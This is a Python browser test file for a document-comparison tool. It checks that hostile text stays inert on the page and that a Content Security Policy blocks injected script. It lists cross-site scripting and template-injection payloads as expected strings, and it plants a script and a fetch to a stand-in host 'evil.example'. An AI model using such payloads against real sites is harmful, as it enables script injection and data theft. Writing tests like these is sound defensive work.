"""Texts that try to be markup, script, style or template show as text; nothing runs, nothing leaves the page.

That no page asks for anything, writes an error or opens a dialog is watched in every test of this room (`opened`).
"""

from __future__ import annotations

import pytest

from headwater.model import Comparison

from .conftest import Opener


@pytest.mark.parametrize("script", [True, False])
def test_hostile_text_shows_as_text(opened: Opener, hostile_letter: Comparison, script: bool):
    page = opened(hostile_letter, script=script)
    rows = " ".join(page.locator(".rows").inner_text().split())
    for words in (
        "<script>alert(1)</script>",
        "onerror=alert(2)",
        'href="javascript:alert(4)"',
        "{{ 7 * 7 }}",
        "${7*7}",
        "<%= 7*7 %>",
    ):
        assert words in rows
    assert "<svg onload=alert(3)>" in page.title() + rows
    assert page.locator("script").count() == 1
    assert page.locator("img, iframe, base, form, body :is(style, object, embed), a[href^='javascript:']").count() == 0
    assert page.locator("body svg").count() == (2 if script else 1), "the bar at the edge and the ribbons, no others"


def test_hostile_text_stays_text_through_every_key_view_and_card(opened: Opener, hostile_letter: Comparison):
    page = opened(hostile_letter)
    for key in ("n", "q", "Enter", "o", "m", "g", "r", "c", "?", "Escape", "r", "p"):
        page.keyboard.press(key)
    for view in ("view-quotations", "view-left-out", "view-changes", "view-side"):
        page.locator(f"label[for={view}]").click()
    page.locator("details").evaluate_all("all => all.forEach(d => { d.open = true; })")
    page.wait_for_timeout(100)
    assert page.locator("img, iframe, base, form").count() == 0
    assert page.url.startswith("file:")


def test_the_policy_keeps_what_is_planted_from_running_and_from_leaving(opened: Opener, letter: Comparison):
    """Were a text to become markup after all, the page's own policy would still hold it."""
    page = opened(letter, allowed="Content Security Policy")
    held = page.evaluate(
        """async () => {
          const held = [];
          document.addEventListener('securitypolicyviolation', e => held.push(e.effectiveDirective));
          const planted = document.createElement('script');
          planted.textContent = 'window.ran = true';
          document.body.append(planted);
          const button = document.createElement('button');
          button.setAttribute('onclick', 'window.ran = true');
          document.body.append(button);
          button.click();
          await fetch('https://evil.example/').catch(() => 0);
          await new Promise(done => setTimeout(done, 50));
          return [window.ran === undefined, ...new Set(held)];
        }"""
    )
    assert held[0]
    assert {"script-src-elem", "script-src-attr", "connect-src"} <= set(held[1:])
